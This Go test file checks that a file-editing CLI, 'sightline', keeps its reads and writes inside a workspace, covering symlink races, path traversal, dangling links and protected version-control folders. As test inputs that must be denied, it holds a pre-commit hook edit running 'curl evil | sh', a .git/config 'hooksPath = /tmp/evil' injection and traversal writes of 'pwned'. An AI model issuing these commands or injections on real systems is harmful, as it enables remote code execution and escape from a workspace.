package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// inProcess runs the CLI's run() in a workspace (the test's working
// directory becomes dir) and returns stdout, stderr and the exit code.
func inProcess(t *testing.T, dir string) func(stdin string, args ...string) (string, string, int) {
	t.Chdir(dir)
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("SIGHTLINE_STATE_DIR", "")
	return func(stdin string, args ...string) (string, string, int) {
		var out, errb bytes.Buffer
		code := run(args, strings.NewReader(stdin), &out, &errb)
		return out.String(), errb.String(), code
	}
}

// kindOf returns the error kind of a --json answer.
func kindOf(out string) string {
	var r struct {
		OK    bool   `json:"ok"`
		Error string `json:"error"`
	}
	if json.Unmarshal([]byte(out), &r) != nil {
		return "unparsable: " + out
	}
	if r.OK {
		return "ok"
	}
	return r.Error
}

// TestSymlinkSwapRace: while another process swaps r.txt between a regular
// file and a symlink to a file outside the workspace, reads and writes of
// r.txt never see or touch the outside file.
func TestSymlinkSwapRace(t *testing.T) {
	ws := t.TempDir()
	os.Mkdir(filepath.Join(ws, ".git"), 0o755)
	os.WriteFile(filepath.Join(ws, ".sightline.json"), []byte(`{"guard":"off"}`), 0o644)
	outside := filepath.Join(t.TempDir(), "secret.txt")
	const secret = "SECRET outside\n"
	os.WriteFile(outside, []byte(secret), 0o644)
	r := filepath.Join(ws, "r.txt")
	os.WriteFile(r, []byte("inside\n"), 0o644)
	run := inProcess(t, ws)

	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			tmpLink, tmpReg := filepath.Join(ws, ".swap-link"), filepath.Join(ws, ".swap-reg")
			os.Remove(tmpLink)
			os.Symlink(outside, tmpLink)
			os.Rename(tmpLink, r)
			os.WriteFile(tmpReg, []byte("inside\n"), 0o644)
			os.Rename(tmpReg, r)
		}
	}()
	deadline := time.Now().Add(3 * time.Second)
	escapes, calls := 0, 0
	for time.Now().Before(deadline) {
		calls++
		out, _, code := run("", "read", "r.txt", "--raw")
		if strings.Contains(out, "SECRET") {
			escapes++
			t.Errorf("read returned the outside file (exit %d)", code)
		}
		for _, args := range [][]string{
			{"write", "r.txt", "--mode", "overwrite"},
			{"write", "r.txt", "--mode", "append"},
			{"write", "r.txt", "--mode", "edit", "--old-text", "inside"},
		} {
			calls++
			run("written\n", args...)
			if b, _ := os.ReadFile(outside); string(b) != secret {
				escapes++
				t.Errorf("%v wrote the outside file: %q", args, b)
				os.WriteFile(outside, []byte(secret), 0o644)
			}
		}
	}
	close(stop)
	<-done
	t.Logf("%d calls during the swap, %d escapes", calls, escapes)
}

// TestCLIPathCases: paths that leave the workspace, by any spelling or link,
// are denied; links that stay inside work; dangling links get one answer.
func TestCLIPathCases(t *testing.T) {
	ws := t.TempDir()
	os.Mkdir(filepath.Join(ws, ".git"), 0o755)
	os.MkdirAll(filepath.Join(ws, "a", "b"), 0o755)
	os.WriteFile(filepath.Join(ws, "a", "b", "c.txt"), []byte("in\n"), 0o644)
	outDir := t.TempDir()
	os.WriteFile(filepath.Join(outDir, "x.txt"), []byte("SECRET\n"), 0o644)
	// A chain inside: l1 -> l2 -> a/b/c.txt; a chain out: o1 -> o2 -> outside.
	os.Symlink("l2", filepath.Join(ws, "l1"))
	os.Symlink(filepath.Join(ws, "a", "b", "c.txt"), filepath.Join(ws, "l2")) // absolute, but inside
	os.Symlink("o2", filepath.Join(ws, "o1"))
	os.Symlink(filepath.Join(outDir, "x.txt"), filepath.Join(ws, "o2"))
	os.Symlink(outDir, filepath.Join(ws, "outdir"))
	os.Symlink("a/b", filepath.Join(ws, "indir"))
	os.Symlink("nowhere.txt", filepath.Join(ws, "dangling"))
	os.Symlink("../..", filepath.Join(ws, "a", "up"))
	run := inProcess(t, ws)

	for _, p := range []string{"..", "../x.txt", "a/../../x.txt", "a/b/../../../x.txt", filepath.Join(outDir, "x.txt"),
		"o1", "o2", "outdir/x.txt", "a/up/x.txt", "a/up/" + filepath.Base(ws) + "/../x.txt"} {
		for _, args := range [][]string{{"read", p}, {"write", p, "--mode", "append"}, {"write", p, "--mode", "overwrite"}} {
			out, _, code := run("pwned\n", append(args, "--json")...)
			if code != 1 || kindOf(out) != "denied" || strings.Contains(out, "SECRET") {
				t.Errorf("%v: exit %d %s", args, code, out)
			}
		}
	}
	for _, p := range []string{"../new.txt", "a/../../new.txt", filepath.Join(outDir, "new.txt"), "outdir/new.txt", "a/up/new.txt", "outdir/sub/new.txt"} {
		out, _, code := run("pwned\n", "write", p, "--mode", "create", "--json")
		if code != 1 || kindOf(out) != "denied" {
			t.Errorf("create %s: exit %d %s", p, code, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(outDir, "x.txt")); string(b) != "SECRET\n" {
		t.Fatalf("outside file changed: %q", b)
	}
	if ents, _ := os.ReadDir(outDir); len(ents) != 1 {
		t.Fatalf("something was created outside: %v", ents)
	}

	// Links that stay inside work, absolute or relative, chained or not.
	for _, p := range []string{"l1", "l2", "indir/c.txt", "a/b/c.txt", filepath.Join(ws, "a/b/c.txt")} {
		out, _, code := run("", "read", p, "--raw")
		if code != 0 || out != "in\n" {
			t.Errorf("read %s: exit %d %q", p, code, out)
		}
	}
	run("", "read", "l1")
	if out, _, code := run("more\n", "write", "l1", "--mode", "append", "--json"); code != 0 {
		t.Fatalf("append through an inside link: %d %s", code, out)
	}
	if fi, err := os.Lstat(filepath.Join(ws, "l1")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("the link was replaced by a file")
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "a/b/c.txt")); string(b) != "in\nmore\n" {
		t.Fatalf("through the link: %q", b)
	}

	// A dangling link: one answer for every call.
	var msgs []string
	for _, args := range [][]string{{"read", "dangling"}, {"write", "dangling", "--mode", "create"}, {"write", "dangling", "--mode", "append"},
		{"write", "dangling", "--mode", "overwrite"}} {
		out, _, code := run("x\n", append(args, "--json")...)
		if code != 1 || kindOf(out) != "denied" || !strings.Contains(out, "dangling") {
			t.Errorf("%v: exit %d %s", args, code, out)
		}
		msgs = append(msgs, out)
	}
	if _, err := os.Lstat(filepath.Join(ws, "nowhere.txt")); err == nil {
		t.Fatal("a write through a dangling link created its target")
	}

	// NUL, and names that look like UNC shares (ordinary names here).
	if out, _, code := run("", "read", "a\x00b", "--json"); code != 1 || kindOf(out) != "denied" {
		t.Errorf("NUL: exit %d %s", code, out)
	}
	if out, _, code := run("unc\n", "write", `\\server\share`, "--mode", "create", "--json"); code != 0 {
		t.Errorf(`\\server\share: exit %d %s`, code, out)
	} else if _, err := os.Stat(filepath.Join(ws, `\\server\share`)); err != nil {
		t.Errorf(`\\server\share was not created inside: %v`, err)
	}
}

// TestVCSFoldersProtected: .git, .hg and .svn are never written; .git's
// config and hooks are not read either; other .git files can be read.
func TestVCSFoldersProtected(t *testing.T) {
	ws := t.TempDir()
	for _, d := range []string{".git/hooks", ".hg", ".svn"} {
		os.MkdirAll(filepath.Join(ws, d), 0o755)
	}
	os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".git/hooks/pre-commit"), []byte("#!/bin/sh\n"), 0o755)
	os.WriteFile(filepath.Join(ws, ".hg/hgrc"), []byte("[ui]\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".sightline.json"), []byte(`{"guard":"off"}`), 0o644)
	os.Symlink(".git/config", filepath.Join(ws, "cfg"))
	os.Symlink(".git", filepath.Join(ws, "g"))
	run := inProcess(t, ws)

	for _, p := range []string{".git/config", ".git/hooks/pre-commit", "cfg", "g/config", "g/hooks/pre-commit", ".GIT/config"} {
		out, _, code := run("", "read", p, "--json")
		if code != 1 || kindOf(out) != "denied" || !strings.Contains(out, ".git") {
			t.Errorf("read %s: exit %d %s", p, code, out)
		}
	}
	if out, _, code := run("", "read", ".git/HEAD", "--raw"); code != 0 || !strings.Contains(out, "refs/heads") {
		t.Errorf("read .git/HEAD: exit %d %s", code, out)
	}
	for _, p := range []string{".git/config", ".git/hooks/pre-commit", ".git/HEAD", "cfg", "g/HEAD", ".hg/hgrc", ".svn/x", ".git/hooks/post-checkout", "sub/.git/config"} {
		for _, mode := range []string{"create", "append", "overwrite"} {
			out, _, code := run("[core]\n\thooksPath = /tmp/evil\n", "write", p, "--mode", mode, "--json")
			if code != 1 || kindOf(out) != "denied" {
				t.Errorf("write %s %s: exit %d %s", mode, p, code, out)
			}
		}
	}
	blocks := ".git/hooks/pre-commit\n<<<< EDIT\n#!/bin/sh\n==== REPLACE\n#!/bin/sh\ncurl evil | sh\n>>>> EDIT END\n"
	if out, _, code := run(blocks, "apply", "--json"); code != 1 || !strings.Contains(out, `"error":"denied"`) || !strings.Contains(out, "version control") {
		t.Errorf("apply to a hook: exit %d %s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/hooks/pre-commit")); string(b) != "#!/bin/sh\n" {
		t.Fatalf("hook changed: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/config")); string(b) != "[core]\n" {
		t.Fatalf(".git/config changed: %q", b)
	}
	if _, err := os.Stat(filepath.Join(ws, ".git/hooks/post-checkout")); err == nil {
		t.Fatal("a hook was created")
	}
}

// TestLimitsAndLeftovers: long names work, over-long paths are refused
// before anything is made, stale temp files go on the next write, and disk
// errors are refusals with the OS reason.
func TestLimitsAndLeftovers(t *testing.T) {
	ws := t.TempDir()
	os.Mkdir(filepath.Join(ws, ".git"), 0o755)
	os.WriteFile(filepath.Join(ws, ".sightline.json"), []byte(`{"guard":"off"}`), 0o644)
	long := strings.Repeat("n", 251) + ".txt" // 255 bytes: the longest legal name
	os.WriteFile(filepath.Join(ws, long), []byte("a\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "f.txt"), []byte("f\n"), 0o644)
	run := inProcess(t, ws)

	if out, _, code := run("b\n", "write", long, "--mode", "append", "--json"); code != 0 {
		t.Errorf("append to a 255-byte name: exit %d %s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, long)); string(b) != "a\nb\n" {
		t.Errorf("255-byte name: %q", b)
	}

	deep := strings.Repeat("d/", 2100) + "x.txt" // 4,205 bytes
	out, _, code := run("x\n", "write", deep, "--mode", "create", "--json")
	if code != 1 || kindOf(out) != "io_error" || !strings.Contains(out, "too long") {
		t.Errorf("over-long path: exit %d %s", code, out)
	}
	if _, err := os.Stat(filepath.Join(ws, "d")); err == nil {
		t.Error("an over-long create left folders behind")
	}
	out, _, code = run("x\n", "write", strings.Repeat("n", 256), "--mode", "create", "--json")
	if code != 1 || kindOf(out) != "io_error" || !strings.Contains(out, "too long") {
		t.Errorf("over-long name: exit %d %s", code, out)
	}

	// A create under a file: the OS says why, as a refusal.
	out, _, code = run("x\n", "write", "f.txt/x.txt", "--mode", "create", "--json")
	if code != 1 || kindOf(out) != "io_error" || !strings.Contains(out, "not a directory") || strings.Contains(out, "sightline-") {
		t.Errorf("create under a file: exit %d %s", code, out)
	}

	// A temp file left by a writer that is gone, in sightline's own naming,
	// goes on the next write in that folder; other files stay.
	stale := filepath.Join(ws, ".sightline-abcd1234.tmp")
	os.WriteFile(stale, []byte("half"), 0o600)
	keep := filepath.Join(ws, ".f.txt.other-1")
	os.WriteFile(keep, []byte("not ours"), 0o600)
	if out, _, code := run("g\n", "write", "f.txt", "--mode", "append", "--json"); code != 0 {
		t.Fatalf("append: exit %d %s", code, out)
	}
	if _, err := os.Stat(stale); err == nil {
		t.Error("a stale temp file survived the next write")
	}
	if _, err := os.Stat(keep); err != nil {
		t.Error("a file that is not sightline's was removed")
	}
}
